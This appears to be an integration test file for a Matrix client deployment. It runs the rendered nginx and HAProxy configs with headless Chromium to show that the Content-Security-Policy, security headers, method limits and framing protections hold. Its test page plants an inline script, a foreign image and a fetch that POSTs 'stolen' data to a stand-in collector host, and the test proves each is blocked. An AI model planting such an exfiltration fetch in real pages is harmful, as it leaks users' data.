/**
 * The client compartment, proven with real software on loopback: the deployment's own rendered
 * nginx.conf and config.json served by Debian's nginx, behind the gateway's own rendered HAProxy
 * config, loaded by a real headless Chromium, all inside the tier's loopback-only namespace.
 *
 * Element's pod: the rendered files sit at their deployed absolute paths inside a directory
 * standing in for the pod's filesystem, which nginx runs chrooted in (its own mount namespace,
 * the system's /usr and /etc/nginx bound read-only in, the root read-only, /tmp a 16 MiB tmpfs,
 * as the uid and gid of the image's nginx user). So nginx.conf runs byte for byte as rendered,
 * and nothing is created at the machine's own /app or /tls.
 *
 * The gateway: its rendered haproxy.cfg, with the repository's loopback mapping of mount paths
 * (loopback.ts) and one listen change: the public `bind :8443` becomes the Service's own
 * address and port (443, what kube-proxy would translate to 8443), because nginx's rendered
 * `listen 8443` takes port 8443 on every loopback address of the shared namespace.
 *
 * Nothing listens for Synapse: the homeserver's name reaches the gateway, whose Synapse backend
 * has no server (503). What matters for the client is that the browser was allowed to send the
 * request to that origin.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import { CERTIFICATE_SECRETS, COMBINED_PEM_KEY, homeserverCertificates } from '../../model/certificates';
import {
  clientOrigin,
  ELEMENT_GID,
  ELEMENT_HTTPS_PORT,
  ELEMENT_PATHS,
  ELEMENT_UID,
  elementServiceName,
  homeserverOrigin,
  LOCKED_CLIENT_SETTINGS,
} from '../../model/client';
import { hostOf } from '../../model/dns-names';
import { loadDeploymentConfig } from '../../model/load-config';
import { GATEWAY_HTTPS_PORT, type WorkloadSpec } from '../../model/workload-spec';
import { renderElementConfig } from '../../render/element/client-config';
import { renderElementNginxConfig } from '../../render/element/nginx';
import { clientSecurityHeaders } from '../../render/gateway/client-headers';
import { gatewayWorkloads } from '../../workloads/catalogue';
import { clientWorkloads } from '../../workloads/client-workloads';
import { requireChromium, visitPage, type PageVisit } from '../support/chromium';
import { HAPROXY, requireHaproxy } from '../support/haproxy';
import { NGINX, requireNginx } from '../support/nginx';
import { Sandbox, tail, waitFor, type SandboxProcess } from '../support/sandbox';
import { tempDirectory } from '../support/slapd';
import { issueServerCertificate, testCa } from '../support/test-ca';
import { materialize, PROFILE_FILE } from './support/homeserver';
import { HAPROXY_WILDCARD, mountPathsOf, NAMESERVER_ADDRESS, POD_ADDRESSES, toLoopback, type LoopbackMapping } from './support/loopback';

jest.setTimeout(2 * 60_000);

const BRIDGE_SCRIPT = path.join(__dirname, 'support', 'loopback_bridge.py');

const config = loadDeploymentConfig(PROFILE_FILE);
const homeserver = (() => {
  const first = config.homeservers[0];
  if (!first?.client) throw new Error('the integration profile must have one homeserver with a client name');
  return first;
})();
const CLIENT_HOST = homeserver.client?.hostname ?? '';
const SERVER_HOST = hostOf(homeserver.serverName);
const CLIENT_ORIGIN = clientOrigin(homeserver) ?? '';
const HOMESERVER_ORIGIN = homeserverOrigin(homeserver);
const ELEMENT_SERVICE = elementServiceName(homeserver);
/** Where a planted script would send what it stole, and a foreign image host. */
const COLLECTOR = 'collector.example.net';
const FOREIGN_IMAGES = 'images.example.com';
/** Another site that tries to frame the client (plain HTTP: framing an HTTPS page from it is no mixed content). */
const FRAMER = 'framer.example.com';
const FRAMER_PORT = 8080;

const ADDRESSES = {
  gateway: POD_ADDRESSES.haproxy,
  element: '127.0.10.20',
  trap: '127.0.0.12',
  framer: '127.0.0.14',
} as const;
const HOSTS: Record<string, string> = {
  [ELEMENT_SERVICE]: ADDRESSES.element,
  [SERVER_HOST]: ADDRESSES.gateway,
  [CLIENT_HOST]: ADDRESSES.gateway,
  [COLLECTOR]: ADDRESSES.trap,
  [FOREIGN_IMAGES]: ADDRESSES.trap,
  [FRAMER]: ADDRESSES.framer,
};

// A test page standing in for Element's bundle (not obtainable here): it plants what an attacker
// would (an inline script, a foreign image, a fetch to a collector) next to what the client
// legitimately does (its own script, its config, the homeserver's API).
const INDEX_HTML = `<!doctype html>
<html>
  <head>
    <meta charset="utf-8">
    <title>client probe (a test page, not Element's bundle)</title>
    <script>document.documentElement.dataset.inline = 'ran';</script>
    <script src="/app.js"></script>
  </head>
  <body>
    <img src="https://${FOREIGN_IMAGES}/pixel.png" alt="">
  </body>
</html>
`;

const APP_JS = `document.documentElement.dataset.external = 'ran';
fetch('/config.json').then((response) => response.text()).then((text) => { globalThis.configText = text; }, () => undefined);
fetch('${HOMESERVER_ORIGIN}/_matrix/client/versions').then(
  (response) => { globalThis.versions = String(response.status); },
  (error) => { globalThis.versions = String(error); },
);
fetch('https://${COLLECTOR}/x', { method: 'POST', mode: 'no-cors', body: 'stolen' }).catch(() => undefined);
`;

const FRAMER_HTML = `<!doctype html>
<html>
  <head><meta charset="utf-8"><title>framer</title></head>
  <body><iframe id="client" src="${CLIENT_ORIGIN}/"></iframe></body>
</html>
`;

/** A TCP trap on the foreign names' address (counts connections) and the framing site. */
const HELPERS = `const net = require('node:net');
const http = require('node:http');
const [trapAddress, framerAddress, framerPort, framerPage] = process.argv.slice(1);
net.createServer((socket) => { console.log('connection'); socket.destroy(); }).listen(443, trapAddress, () => console.log('trap listening'));
http.createServer((request, response) => {
  response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
  response.end(framerPage);
}).listen(Number(framerPort), framerAddress, () => console.log('framer listening'));`;

let directory = '';
let sandbox: Sandbox | undefined;
let helpers: SandboxProcess | undefined;
let elementProcess: SandboxProcess | undefined;
let caFile = '';
let gatewayCertificate = '';
let failed = false;
const timings: string[] = [];

const inSandbox = () => {
  if (!sandbox) throw new Error('the sandbox did not start');
  return sandbox;
};
const trapConnections = () =>
  helpers
    ? fs
        .readFileSync(helpers.logFile, 'utf8')
        .split('\n')
        .filter((line) => line === 'connection').length
    : 0;

function only(workloads: readonly WorkloadSpec[], name: string): WorkloadSpec {
  const found = workloads.find((workload) => workload.name === name);
  if (!found) throw new Error(`no ${name} workload rendered`);
  return found;
}

function write(file: string, content: string, mode: number, gid = 0): void {
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, content);
  fs.chownSync(file, 0, gid);
  fs.chmodSync(file, mode);
}

/**
 * Element's pod filesystem: the rendered config volumes and the certificate Secret at their mount
 * paths (root-owned, group-readable by the pod's fsGroup where a key is held, as the kubelet
 * lays them out), the stand-in bundle at /app, mount points for the system and for /tmp.
 */
function elementRoot(workload: WorkloadSpec, root: string, tls: { certificate: string; key: string }, caPem: string): void {
  for (const files of workload.configFiles ?? [])
    for (const [name, content] of Object.entries(files.files)) write(path.join(root, files.mountPath, name), content, 0o444);
  for (const mount of workload.secretMounts ?? []) {
    if (mount.secretName !== CERTIFICATE_SECRETS.element) throw new Error(`element-web mounts ${mount.secretName}, not delivered here`);
    write(path.join(root, mount.mountPath, 'tls.crt'), fs.readFileSync(tls.certificate, 'utf8'), 0o440, ELEMENT_GID);
    write(path.join(root, mount.mountPath, 'tls.key'), fs.readFileSync(tls.key, 'utf8'), 0o440, ELEMENT_GID);
    write(path.join(root, mount.mountPath, 'ca.crt'), caPem, 0o440, ELEMENT_GID);
  }
  write(path.join(root, ELEMENT_PATHS.webRoot, 'index.html'), INDEX_HTML, 0o444);
  write(path.join(root, ELEMENT_PATHS.webRoot, 'app.js'), APP_JS, 0o444);
  for (const writable of workload.writablePaths) fs.mkdirSync(path.join(root, writable.mountPath), { recursive: true });
  for (const mountPoint of ['usr', 'etc/nginx']) fs.mkdirSync(path.join(root, mountPoint), { recursive: true });
  // Debian's merged /usr, as the system's own root has it.
  for (const link of ['bin', 'sbin', 'lib', 'lib64']) fs.symlinkSync(`usr/${link}`, path.join(root, link));
  // The pod root itself is the image's: readable by everyone, owned by root.
  const walk = (entry: string) => {
    if (fs.lstatSync(entry).isDirectory()) {
      fs.chmodSync(entry, 0o755);
      for (const child of fs.readdirSync(entry)) walk(path.join(entry, child));
    }
  };
  walk(root);
}

/**
 * Runs the workload's own command inside a mount namespace of its own, chrooted in `root`: the
 * system's /usr and /etc/nginx (mime.types) bound read-only in, the root made read-only, each
 * writable path a tmpfs of its size limit; then as the image's nginx user.
 */
function startElement(box: Sandbox, workload: WorkloadSpec, root: string): SandboxProcess {
  const [program, ...args] = workload.command ?? [];
  if (program !== 'nginx') throw new Error(`element-web's command is ${String(program)}, not nginx`);
  const quote = (value: string) => `'${value.replace(/'/g, `'\\''`)}'`;
  const script = [
    `mount --bind ${quote(root)} ${quote(root)}`,
    `mount -o bind,ro /usr ${quote(path.join(root, 'usr'))}`,
    `mount -o bind,ro /etc/nginx ${quote(path.join(root, 'etc/nginx'))}`,
    `mount -o remount,bind,ro ${quote(root)}`,
    ...workload.writablePaths.map(
      (writable) =>
        `mount -t tmpfs -o size=${writable.sizeLimitMi}m,mode=1777,nosuid,nodev tmpfs ${quote(path.join(root, writable.mountPath))}`,
    ),
    `exec /usr/sbin/chroot ${quote(root)} /usr/bin/setpriv --reuid=${ELEMENT_UID} --regid=${ELEMENT_GID} --clear-groups ` +
      `--pdeathsig KILL -- ${NGINX} ${args.map(quote).join(' ')}`,
  ].join('\n');
  return box.start('element-web', '/usr/bin/unshare', ['--mount', '--propagation', 'private', '--', 'sh', '-ec', script]);
}

/** The gateway's pod: its files by the tier's loopback mapping, its public listener on the Service's address and port. */
function gatewayMapping(workload: WorkloadSpec, root: string): LoopbackMapping {
  const { containerPort, servicePort } = GATEWAY_HTTPS_PORT;
  return {
    root,
    mountPaths: mountPathsOf(workload),
    listen: [
      [`${HAPROXY_WILDCARD}${containerPort} `, `bind ${ADDRESSES.gateway}:${servicePort} `],
      [HAPROXY_WILDCARD, `bind ${ADDRESSES.gateway}:`],
    ],
  };
}

interface Fetched {
  readonly status: number;
  readonly headers: readonly [string, string][];
  readonly body: string;
}

/** One HTTPS request through the gateway from inside the namespace (curl, the internal test CA trusted). */
async function curl(method: string, host: string, requestPath: string, extra: readonly string[] = []): Promise<Fetched> {
  const box = inSandbox();
  const stamp = `${Date.now()}-${Math.random().toString(36).slice(2)}`;
  const headerFile = path.join(directory, `curl-${stamp}.headers`);
  const bodyFile = path.join(directory, `curl-${stamp}.body`);
  const result = await box.exec('/usr/bin/curl', [
    '-sS',
    '--http1.1',
    '--cacert',
    caFile,
    '-X',
    method,
    '-D',
    headerFile,
    '-o',
    bodyFile,
    '-w',
    '%{http_code}',
    ...extra,
    `https://${host}${requestPath}`,
  ]);
  if (result.status !== 0) throw new Error(`curl ${method} https://${host}${requestPath} failed (${result.status}): ${result.output}`);
  const headers = fs
    .readFileSync(headerFile, 'utf8')
    .split('\r\n')
    .slice(1)
    .filter((line) => line.includes(':'))
    .map((line): [string, string] => {
      const colon = line.indexOf(':');
      return [line.slice(0, colon).toLowerCase(), line.slice(colon + 1).trim()];
    });
  const body = fs.readFileSync(bodyFile, 'utf8');
  fs.rmSync(headerFile);
  fs.rmSync(bodyFile);
  return { status: Number(result.output.trim()), headers, body };
}

const header = (response: Fetched, name: string) => response.headers.filter(([key]) => key === name.toLowerCase()).map(([, v]) => v);

const gatewayLog = () => path.join(directory, 'logs', 'haproxy.log');

/** Where the gateway's log ends now: lines logged later are read from here on. */
function gatewayLogMark(): number {
  return fs.existsSync(gatewayLog()) ? fs.statSync(gatewayLog()).size : 0;
}

/**
 * The gateway's log line logged since `mark` whose request reads `request HTTP/...` (its path,
 * or `"METHOD path`): frontend, backend/server, status; the query string is never logged.
 */
function gatewayLogLine(request: string, mark: number): string {
  const log = fs.readFileSync(gatewayLog()).subarray(mark).toString('utf8');
  const line = log.split('\n').find((candidate) => candidate.includes(` ${request} HTTP/`));
  if (!line) throw new Error(`no gateway log line for ${request}:\n${log.split('\n').slice(-10).join('\n')}`);
  return line;
}

beforeAll(async () => {
  const started = Date.now();
  requireChromium();
  requireNginx();
  requireHaproxy();
  directory = tempDirectory('client-itest-');
  fs.chmodSync(directory, 0o755);

  // Certificates as declared: the gateway's names both public names, element-web's its Service name.
  const caDirectory = path.join(directory, 'ca');
  fs.mkdirSync(caDirectory);
  const ca = testCa(caDirectory, 'internal-ca');
  caFile = ca.certificate;
  fs.chmodSync(caDirectory, 0o755);
  fs.chmodSync(caFile, 0o644);
  const caPem = fs.readFileSync(ca.certificate, 'utf8');
  const declared = (secretName: string) => {
    const found = homeserverCertificates(homeserver).find((candidate) => candidate.secretName === secretName);
    if (!found) throw new Error(`no ${secretName} certificate declared`);
    return found;
  };
  const gatewayNames = declared(CERTIFICATE_SECRETS.gateway).dnsNames;
  // The server name first (the common name), the client's name among the others (the calls' name is the third).
  expect(gatewayNames.slice(0, 2)).toEqual([SERVER_HOST, CLIENT_HOST]);
  expect(declared(CERTIFICATE_SECRETS.element).dnsNames).toContain(ELEMENT_SERVICE);
  const gateway = issueServerCertificate(ca, gatewayNames, caDirectory);
  gatewayCertificate = gateway.certificate;
  const element = issueServerCertificate(ca, declared(CERTIFICATE_SECRETS.element).dnsNames, caDirectory);

  const elementWorkload = only(clientWorkloads(config, homeserver), 'element-web');
  const gatewayWorkload = only(gatewayWorkloads(config, homeserver), 'haproxy');
  const elementPodRoot = path.join(directory, 'pods', 'element-web');
  elementRoot(elementWorkload, elementPodRoot, element, caPem);
  const gatewayRoot = path.join(directory, 'pods', 'haproxy');
  const gatewayCrt = fs.readFileSync(gateway.certificate, 'utf8');
  const gatewayKey = fs.readFileSync(gateway.key, 'utf8');
  const gatewayPod = materialize(
    gatewayWorkload,
    gatewayRoot,
    gatewayMapping(gatewayWorkload, gatewayRoot),
    new Map([
      [
        CERTIFICATE_SECRETS.gateway,
        { 'tls.crt': gatewayCrt, 'tls.key': gatewayKey, 'ca.crt': caPem, [COMBINED_PEM_KEY]: gatewayCrt + gatewayKey },
      ],
    ]),
    caPem,
  );

  sandbox = await Sandbox.create(directory, HOSTS, NAMESERVER_ADDRESS);
  const box = sandbox;
  // The cluster DNS HAProxy's `resolvers cluster` asks at run time.
  const bridge = box.start('network', 'python3', [
    BRIDGE_SCRIPT,
    JSON.stringify({ dns: { listen: [NAMESERVER_ADDRESS, 53], hosts: HOSTS } }),
  ]);
  helpers = box.start('helpers', process.execPath, ['-e', HELPERS, ADDRESSES.trap, ADDRESSES.framer, String(FRAMER_PORT), FRAMER_HTML]);
  const nginx = startElement(box, elementWorkload, elementPodRoot);
  elementProcess = nginx;
  const deadline = Date.now() + 20_000;
  await waitFor(
    'the loopback network and helpers',
    deadline,
    async () =>
      fs.readFileSync(bridge.logFile, 'utf8').includes('ready') &&
      (fs.readFileSync(helpers?.logFile ?? '', 'utf8').match(/listening/g) ?? []).length === 2,
    () => {
      box.assertRunning(bridge);
      box.assertRunning(helpers as SandboxProcess);
    },
  );
  await waitFor(
    'element-web (nginx)',
    deadline,
    () => box.acceptsTcp(ADDRESSES.element, ELEMENT_HTTPS_PORT.containerPort),
    () => box.assertRunning(nginx),
  );
  const [haproxyProgram, ...haproxyArgs] = (gatewayWorkload.command ?? []).map((arg) => toLoopback(arg, gatewayPod.mapping));
  if (haproxyProgram !== 'haproxy') throw new Error(`the gateway's command is ${String(haproxyProgram)}`);
  const haproxy = box.start('haproxy', HAPROXY, haproxyArgs);
  await waitFor(
    'the gateway routing the client name to element-web',
    deadline,
    async () => (await curl('GET', CLIENT_HOST, '/config.json?ready')).status === 200,
    () => box.assertRunning(haproxy),
  );
  timings.push(`servers up: ${Date.now() - started} ms`);
});

afterAll(async () => {
  await sandbox?.stop();
  if (failed && directory) {
    const report = (sandbox?.logFiles() ?? []).map((file) => `--- ${file}\n${tail(file, 30)}`).join('\n');
    process.stderr.write(`client: run directory KEPT at ${directory}\n${report}\n`);
  } else if (directory) {
    fs.rmSync(directory, { recursive: true, force: true });
  }
  process.stderr.write(`client timings: ${timings.join('; ')}\n`);
});

function tracked(body: () => Promise<void>): () => Promise<void> {
  return async () => {
    try {
      await body();
    } catch (error) {
      failed = true;
      throw error;
    }
  };
}

async function visit(label: string, url: string, evaluate: Record<string, string> = {}): Promise<PageVisit> {
  const started = Date.now();
  const result = await visitPage({
    url,
    workDir: directory,
    trustedCertificates: [gatewayCertificate],
    enter: (command, args, asNobody) => inSandbox().enter(command, args, asNobody),
    evaluate,
    settleMs: 1_000,
  });
  timings.push(`${label}: ${Date.now() - started} ms (browser ${result.durationMs} ms)`);
  return result;
}

// As the gateway renders them: the homeserver's origin, and the calls' when the homeserver has calls.
const EXPECTED_HEADERS = clientSecurityHeaders({
  homeserver: HOMESERVER_ORIGIN,
  ...(homeserver.calls ? { callsHostname: homeserver.calls.hostname } : {}),
});

test(
  'the rendered nginx.conf runs unchanged at its deployed paths, as the image user',
  tracked(async () => {
    const shipped = fs.readFileSync(path.join(directory, 'pods', 'element-web', ELEMENT_PATHS.serverConfigDirectory, 'nginx.conf'), 'utf8');
    expect(shipped).toBe(renderElementNginxConfig());
    // The master (the whole chain execs into it, so it is the started process) as the image's
    // user, its pid file in its own /tmp, its root read-only; its workers as the same user.
    const master = elementProcess?.child.pid ?? 0;
    const uidOf = (pid: number) => /^Uid:\s+(\d+)\s+(\d+)/m.exec(fs.readFileSync(`/proc/${pid}/status`, 'utf8'))?.slice(1, 3);
    // nginx retitles its master with the command line it was started with.
    const command = [NGINX, ...(only(clientWorkloads(config, homeserver), 'element-web').command ?? []).slice(1)];
    expect(fs.readFileSync(`/proc/${master}/cmdline`, 'utf8').replace(/\0+$/, '')).toBe(`nginx: master process ${command.join(' ')}`);
    expect(uidOf(master)).toEqual([String(ELEMENT_UID), String(ELEMENT_UID)]);
    expect(fs.readFileSync(`/proc/${master}/root/tmp/nginx.pid`, 'utf8').trim()).toBe(String(master));
    const rootMount = fs
      .readFileSync(`/proc/${master}/mountinfo`, 'utf8')
      .split('\n')
      .find((line) => line.split(' ')[4] === '/');
    expect(rootMount?.split(' ')[5]?.split(',')).toContain('ro');
    const workers = fs.readFileSync(`/proc/${master}/task/${master}/children`, 'utf8').trim().split(/\s+/).map(Number);
    expect(workers).toHaveLength(1);
    for (const worker of workers) expect(uidOf(worker)).toEqual([String(ELEMENT_UID), String(ELEMENT_UID)]);
  }),
);

test(
  'Chromium through the gateway: every security header as rendered, the CSP enforced, only the two origins reached',
  tracked(async () => {
    const before = trapConnections();
    const mark = gatewayLogMark();
    const page = await visit('client page', `${CLIENT_ORIGIN}/`, {
      inline: 'document.documentElement.dataset.inline ?? null',
      external: 'document.documentElement.dataset.external ?? null',
      configText: 'globalThis.configText ?? null',
      versions: 'globalThis.versions ?? null',
    });
    expect(page.status).toBe(200);
    for (const [name, value] of EXPECTED_HEADERS) expect([name, page.headers[name.toLowerCase()]]).toEqual([name, value]);

    // The planted inline script never ran; the same-origin script did.
    expect(page.values.inline).toBeNull();
    expect(page.values.external).toBe('ran');

    // The page's own reports of each refusal, and the browser's console.
    const events = page.cspViolations.filter((violation) => violation.via === 'event');
    expect(events).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ blockedURI: 'inline', effectiveDirective: 'script-src-elem', disposition: 'enforce' }),
        expect.objectContaining({ blockedURI: `https://${COLLECTOR}/x`, effectiveDirective: 'connect-src', disposition: 'enforce' }),
        expect.objectContaining({
          blockedURI: `https://${FOREIGN_IMAGES}/pixel.png`,
          effectiveDirective: 'img-src',
          disposition: 'enforce',
        }),
      ]),
    );
    expect(events).toHaveLength(3);
    const logged = page.cspViolations.filter((violation) => violation.via === 'console').map((violation) => violation.blockedURI);
    expect(logged.sort()).toEqual([`https://${COLLECTOR}/x`, `https://${FOREIGN_IMAGES}/pixel.png`, 'inline'].sort());

    // The collector and the foreign image: refused in the renderer, never on the wire. (A fetch
    // refused by connect-src never becomes a network request at all; the image shows as one, blocked.)
    const foreign = page.requests.filter((request) => [COLLECTOR, FOREIGN_IMAGES].includes(new URL(request.url).hostname));
    expect(foreign.filter((request) => request.sentToNetwork || request.blockedReason !== 'csp')).toEqual([]);
    expect(foreign).toContainEqual(expect.objectContaining({ url: `https://${FOREIGN_IMAGES}/pixel.png`, resourceType: 'Image' }));
    expect(trapConnections()).toBe(before);

    // Every request that went out, each to the client's origin or the homeserver's.
    const sent = page.requests.filter((request) => request.sentToNetwork);
    const list = sent.map((request) => `${request.method} ${request.url} -> ${request.status ?? request.errorText ?? '?'}`);
    process.stderr.write(`client page requests on the wire:\n  ${list.join('\n  ')}\n`);
    for (const request of sent) expect([CLIENT_ORIGIN, HOMESERVER_ORIGIN]).toContain(new URL(request.url).origin);
    expect(sent.map((request) => `${request.resourceType} ${request.url}`)).toEqual(
      expect.arrayContaining([
        `Document ${CLIENT_ORIGIN}/`,
        `Script ${CLIENT_ORIGIN}/app.js`,
        `Fetch ${CLIENT_ORIGIN}/config.json`,
        `Fetch ${HOMESERVER_ORIGIN}/_matrix/client/versions`,
      ]),
    );
    // The homeserver call was allowed by the CSP (it reached the gateway, which has no Synapse here).
    const versions = page.requests.find((request) => request.url === `${HOMESERVER_ORIGIN}/_matrix/client/versions`);
    expect(versions?.blockedReason).toBeUndefined();
    expect(gatewayLogLine('/_matrix/client/versions', mark)).toMatch(/ 503 /);

    // config.json as the browser got it: the rendered file, byte for byte, locked to the homeserver.
    expect(page.values.configText).toBe(renderElementConfig(homeserver));
    const served = JSON.parse(String(page.values.configText)) as Record<string, unknown>;
    expect(served).toMatchObject(LOCKED_CLIENT_SETTINGS);
    expect(served.default_server_config).toEqual({ 'm.homeserver': { base_url: HOMESERVER_ORIGIN, server_name: homeserver.serverName } });
  }),
);

test(
  'over plain HTTPS: config.json byte for byte with one copy of each header; only GET and HEAD on the client name',
  tracked(async () => {
    const config = await curl('GET', CLIENT_HOST, '/config.json');
    expect(config.status).toBe(200);
    expect(config.body).toBe(renderElementConfig(homeserver));
    expect(header(config, 'cache-control')).toEqual(['no-cache']);
    for (const [name, value] of EXPECTED_HEADERS) expect([name, header(config, name)]).toEqual([name, [value]]);
    // The gateway drops the web server's name (nginx would name itself, without its version).
    expect(header(config, 'server')).toEqual([]);

    const head = await curl('HEAD', CLIENT_HOST, '/', ['--head']);
    expect(head.status).toBe(200);
    for (const method of ['POST', 'PUT', 'DELETE', 'OPTIONS']) {
      const mark = gatewayLogMark();
      const refused = await curl(method, CLIENT_HOST, '/', ['--data', method === 'POST' ? 'x' : '']);
      expect([method, refused.status]).toEqual([method, 405]);
      // Refused by the gateway's frontend: no backend saw it.
      expect(gatewayLogLine(`"${method} /`, mark)).toMatch(/ public~ public\/<NOSRV> .* 405 /);
    }
  }),
);

test(
  "the homeserver's routes are never served on the client name, and the client is never served on the homeserver's",
  tracked(async () => {
    for (const requestPath of [
      '/_matrix/client/versions',
      '/_synapse/admin/v1/users',
      '/.well-known/matrix/client',
      '/_matrix/media/v3/config',
    ]) {
      const mark = gatewayLogMark();
      const response = await curl('GET', CLIENT_HOST, requestPath);
      // nginx's own 404 (its error page), through the client backend (whose headers it carries).
      expect([requestPath, response.status]).toEqual([requestPath, 404]);
      expect(response.body).toContain('<center>nginx</center>');
      expect(header(response, 'content-security-policy')).toEqual([EXPECTED_HEADERS[0]?.[1]]);
      expect(gatewayLogLine(requestPath, mark)).toMatch(/ public~ client\/client .* 404 /);
    }
    for (const requestPath of ['/index.html', '/app.js', '/config.json', '/']) {
      const mark = gatewayLogMark();
      const response = await curl('GET', SERVER_HOST, requestPath);
      // The gateway's default deny: no backend, no nginx page, none of the client's headers.
      expect([requestPath, response.status]).toEqual([requestPath, 404]);
      expect(response.body).not.toContain('nginx');
      expect(header(response, 'content-security-policy')).toEqual([]);
      expect(gatewayLogLine(requestPath, mark)).toMatch(/ public~ public\/<NOSRV> .* 404 /);
    }
  }),
);

test(
  'another site framing the client: Chromium refuses to render it',
  tracked(async () => {
    // X-Frame-Options is not proven apart: with frame-ancestors present, Chromium ignores it
    // (a frame-ancestors of * with X-Frame-Options DENY still renders the frame).
    const page = await visit('framing page', `http://${FRAMER}:${FRAMER_PORT}/`);
    expect(page.status).toBe(200);
    // The frame's document came back (status 200) and was refused on its response headers.
    expect(page.requests).toContainEqual(
      expect.objectContaining({
        url: `${CLIENT_ORIGIN}/`,
        resourceType: 'Document',
        status: 200,
        errorText: 'net::ERR_BLOCKED_BY_RESPONSE',
      }),
    );
    expect(page.cspViolations).toContainEqual(
      expect.objectContaining({ via: 'console', blockedURI: `${CLIENT_ORIGIN}/`, effectiveDirective: 'frame-ancestors' }),
    );
  }),
);
